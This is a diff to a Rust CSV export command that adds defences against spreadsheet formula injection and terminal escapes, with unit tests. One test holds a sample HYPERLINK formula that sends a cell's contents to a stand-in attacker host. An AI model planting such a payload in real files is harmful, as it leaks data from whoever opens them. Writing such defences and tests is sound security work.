@@ -1,5 +1,10 @@
 //! `export`: the store's records as JSON or CSV on standard output, read a page at a time.
+//!
+//! Every CSV cell but the headers passes through [`csv_cell`], by way of [`CsvOut`], so that a
+//! value from a tenant (a display name, a department, a phone number) is never read back by a
+//! spreadsheet program as a formula or carries terminal escapes. JSON is written exactly as stored.
 
+use std::borrow::Cow;
 use std::io::Write;
 use std::process::ExitCode;
 
@@ -77,6 +82,111 @@ pub struct ExportArgs {
     /// Include archived records (gone from the tenant).
     #[arg(long)]
     include_archived: bool,
+}
+
+/// One CSV cell made safe to open in a spreadsheet program, after OWASP's advice on CSV injection:
+///
+/// - control characters (C0 such as NUL and ESC, DEL, and C1) are removed, except a newline or a
+///   tab inside the cell: the csv writer quotes a cell holding a newline, and a tab is plain text
+///   there (a carriage return is removed, so that a line break is always one `\n`);
+/// - a cell that then starts with `=`, `+`, `-`, `@` or a tab (OWASP's list, whose carriage
+///   return is gone by then), which spreadsheet programs may evaluate as a formula, gets a single
+///   quote in front (`'=1+1`), which they show as text;
+/// - except a plain negative number (`-5`, `-2.5`: a minus sign, digits, at most one decimal
+///   point): every spreadsheet program reads it as a number literal, which can neither call nor
+///   refer to anything, and quoting it would turn a number column (an over-assigned licence's
+///   free units) into text.
+pub fn csv_cell(value: &str) -> Cow<'_, str> {
+    let kept = |c: &char| !c.is_control() || matches!(c, '\n' | '\t');
+    let cleaned: Cow<'_, str> = if value.chars().all(|c| kept(&c)) {
+        Cow::Borrowed(value)
+    } else {
+        Cow::Owned(value.chars().filter(kept).collect())
+    };
+    let formula = matches!(cleaned.chars().next(), Some('=' | '+' | '-' | '@' | '\t'));
+    if formula && !is_plain_negative_number(&cleaned) {
+        Cow::Owned(format!("'{cleaned}"))
+    } else {
+        cleaned
+    }
+}
+
+/// `-` then digits, with at most one `.` between digits: `-5`, `-2.5`; not `-`, `-.5`, `-1e3`,
+/// `-2+3`.
+fn is_plain_negative_number(cell: &str) -> bool {
+    let Some(number) = cell.strip_prefix('-') else {
+        return false;
+    };
+    let digits = |part: &str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit());
+    match number.split_once('.') {
+        Some((whole, fraction)) => digits(whole) && digits(fraction),
+        None => digits(number),
+    }
+}
+
+/// A CSV writer whose every data cell goes through [`csv_cell`]; headers are ours and go as
+/// they are.
+struct CsvOut<W: Write> {
+    csv: csv::Writer<W>,
+    header_written: bool,
+}
+
+impl<W: Write> CsvOut<W> {
+    fn new(out: W) -> Self {
+        Self {
+            csv: csv::Writer::from_writer(out),
+            header_written: false,
+        }
+    }
+
+    fn header<I>(&mut self, names: I) -> csv::Result<()>
+    where
+        I: IntoIterator,
+        I::Item: AsRef<[u8]>,
+    {
+        self.header_written = true;
+        self.csv.write_record(names)
+    }
+
+    fn row<I>(&mut self, cells: I) -> csv::Result<()>
+    where
+        I: IntoIterator,
+        I::Item: AsRef<str>,
+    {
+        self.csv.write_record(
+            cells
+                .into_iter()
+                .map(|cell| csv_cell(cell.as_ref()).into_owned()),
+        )
+    }
+
+    /// One serialised row, as `csv::Writer::serialize` would write it (its field names as the
+    /// header before the first row), with each cell made safe. The row is serialised by csv
+    /// itself and read back, so the cells are exactly the ones it would have written.
+    fn serialize<T: serde::Serialize>(&mut self, row: &T) -> csv::Result<()> {
+        let mut buffer = csv::WriterBuilder::new()
+            .has_headers(!self.header_written)
+            .from_writer(Vec::new());
+        buffer.serialize(row)?;
+        let bytes = buffer.into_inner().map_err(|e| e.into_error())?;
+        let mut records = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(bytes.as_slice())
+            .into_records();
+        if !self.header_written
+            && let Some(names) = records.next()
+        {
+            self.header(&names?)?;
+        }
+        for record in records {
+            self.row(&record?)?;
+        }
+        Ok(())
+    }
+
+    fn flush(&mut self) -> std::io::Result<()> {
+        self.csv.flush()
+    }
 }
 
 fn contact_json(c: &ContactRow) -> serde_json::Value {
@@ -185,8 +295,7 @@ pub async fn run(db: &str, args: ExportArgs) -> anyhow::Result<ExitCode> {
         ),
         None => None,
     };
-    let stdout = std::io::stdout();
-    let mut out = std::io::BufWriter::new(stdout.lock());
+    let mut out = std::io::BufWriter::new(crate::output::stdout());
     if let Some(dataset) = args.what.inventory() {
         let rows = store
             .inventory(tenant_id.as_ref(), dataset, args.include_archived)
@@ -194,8 +303,8 @@ pub async fn run(db: &str, args: ExportArgs) -> anyhow::Result<ExitCode> {
         if args.format == Format::Csv {
             // The document's fields differ per dataset: CSV carries the shared columns and the
             // whole document as JSON, which spreadsheet tools can split further.
-            let mut csv = csv::Writer::from_writer(&mut out);
-            csv.write_record([
+            let mut csv = CsvOut::new(&mut out);
+            csv.header([
                 "organization",
                 "tenant_id",
                 "key",
@@ -204,7 +313,7 @@ pub async fn run(db: &str, args: ExportArgs) -> anyhow::Result<ExitCode> {
                 "document",
             ])?;
             for row in &rows {
-                csv.write_record([
+                csv.row([
                     row.organization.clone(),
                     row.tenant_id.clone(),
                     row.key.clone(),
@@ -242,7 +351,7 @@ pub async fn run(db: &str, args: ExportArgs) -> anyhow::Result<ExitCode> {
             .mailboxes(tenant_id.as_ref(), kind, args.include_archived)
             .await?;
         if args.format == Format::Csv {
-            let mut csv = csv::Writer::from_writer(&mut out);
+            let mut csv = CsvOut::new(&mut out);
             for row in &rows {
                 csv.serialize(row)?;
             }
@@ -276,13 +385,13 @@ pub async fn run(db: &str, args: ExportArgs) -> anyhow::Result<ExitCode> {
                 ..ContactFilter::default()
             };
             if args.format == Format::Csv {
-                let mut csv = csv::Writer::from_writer(&mut out);
-                csv.write_record(CONTACT_COLUMNS)?;
+                let mut csv = CsvOut::new(&mut out);
+                csv.header(CONTACT_COLUMNS)?;
                 let mut failed: Option<csv::Error> = None;
                 store
                     .each_contact(&filter, |c| {
                         if failed.is_none() {
-                            failed = csv.write_record(contact_csv(&c)).err();
+                            failed = csv.row(contact_csv(&c)).err();
                         }
                         Ok(())
                     })
@@ -326,8 +435,8 @@ pub async fn run(db: &str, args: ExportArgs) -> anyhow::Result<ExitCode> {
                 orgs.retain(|o| !o.archived);
             }
             if args.format == Format::Csv {
-                let mut csv = csv::Writer::from_writer(&mut out);
-                csv.write_record([
+                let mut csv = CsvOut::new(&mut out);
+                csv.header([
                     "id",
                     "name",
                     "tenant_id",
@@ -339,7 +448,7 @@ pub async fn run(db: &str, args: ExportArgs) -> anyhow::Result<ExitCode> {
                     "archived",
                 ])?;
                 for o in &orgs {
-                    csv.write_record([
+                    csv.row([
                         o.id.to_string(),
                         o.name.clone(),
                         o.tenant_id.clone().unwrap_or_default(),
@@ -362,8 +471,8 @@ pub async fn run(db: &str, args: ExportArgs) -> anyhow::Result<ExitCode> {
                 .licenses(tenant_id.as_ref(), args.include_archived)
                 .await?;
             if args.format == Format::Csv {
-                let mut csv = csv::Writer::from_writer(&mut out);
-                csv.write_record([
+                let mut csv = CsvOut::new(&mut out);
+                csv.header([
                     "organization",
                     "tenant_id",
                     "sku_id",
@@ -380,7 +489,7 @@ pub async fn run(db: &str, args: ExportArgs) -> anyhow::Result<ExitCode> {
                     "archived",
                 ])?;
                 for l in &licenses {
-                    csv.write_record([
+                    csv.row([
                         l.organization.clone(),
                         l.tenant_id.clone(),
                         l.sku_id.clone(),
@@ -406,4 +515,116 @@ pub async fn run(db: &str, args: ExportArgs) -> anyhow::Result<ExitCode> {
     }
     out.flush()?;
     Ok(ExitCode::SUCCESS)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_cell_that_could_be_a_formula_is_quoted() {
+        let cases = [
+            (
+                r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#,
+                r#"'=HYPERLINK("http://evil.example/?x="&A1,"Click")"#,
+            ),
+            ("-2+3", "'-2+3"),
+            ("@SUM(1+1)", "'@SUM(1+1)"),
+            ("+44 20 7946 0000", "'+44 20 7946 0000"),
+            ("\tcmd", "'\tcmd"),
+            ("-", "'-"),
+            ("-.5", "'-.5"),
+            ("-5.", "'-5."),
+            ("-1e3", "'-1e3"),
+            ("-1-1", "'-1-1"),
+            ("--5", "'--5"),
+            ("-2.5.1", "'-2.5.1"),
+            // A control character cannot hide a formula behind it.
+            ("\u{1b}=1+1", "'=1+1"),
+            ("\r=1+1", "'=1+1"),
+            ("\0@x", "'@x"),
+        ];
+        for (value, expected) in cases {
+            assert_eq!(csv_cell(value), expected, "{value:?}");
+        }
+    }
+
+    #[test]
+    fn plain_text_and_plain_numbers_stay_as_they_are() {
+        for value in [
+            "",
+            "Adele Vance",
+            "Sales & Marketing",
+            "a=b",
+            "x-1",
+            "'quoted already",
+            " =1+1",
+            "5",
+            "-5",
+            "-2.5",
+            "-0",
+            "true",
+            "{\"id\":\"-1\"}",
+            "line one\nline two",
+            "tab\tinside",
+            "Zoë Łukasz 東京",
+        ] {
+            assert!(
+                matches!(csv_cell(value), Cow::Borrowed(v) if v == value),
+                "{value:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn control_characters_are_removed_but_newline_and_tab_inside_stay() {
+        let cases = [
+            ("a\u{1b}[31mred\u{1b}[0m", "a[31mred[0m"),
+            ("nul\0byte", "nulbyte"),
+            ("bell\u{7}", "bell"),
+            ("del\u{7f}", "del"),
+            ("c1\u{9b}31m\u{85}", "c131m"),
+            ("crlf\r\nline", "crlf\nline"),
+            ("cr\ronly", "cronly"),
+            ("keep\nand\tkeep", "keep\nand\tkeep"),
+        ];
+        for (value, expected) in cases {
+            assert_eq!(csv_cell(value), expected, "{value:?}");
+        }
+    }
+
+    #[test]
+    fn a_serialised_row_is_written_as_csv_would_with_safe_cells() {
+        #[derive(serde::Serialize)]
+        struct Row {
+            name: String,
+            size: Option<i64>,
+            free: i64,
+            shared: Option<bool>,
+        }
+        let rows = [
+            Row {
+                name: "=1+1".into(),
+                size: Some(5),
+                free: -2,
+                shared: None,
+            },
+            Row {
+                name: "Room, 2nd \"floor\"\u{1b}".into(),
+                size: None,
+                free: 3,
+                shared: Some(true),
+            },
+        ];
+        let mut safe = CsvOut::new(Vec::new());
+        for row in &rows {
+            safe.serialize(row).unwrap();
+        }
+        safe.flush().unwrap();
+        let written = String::from_utf8(safe.csv.into_inner().unwrap()).unwrap();
+        assert_eq!(
+            written,
+            "name,size,free,shared\n'=1+1,5,-2,\n\"Room, 2nd \"\"floor\"\"\",,3,true\n"
+        );
+    }
 }
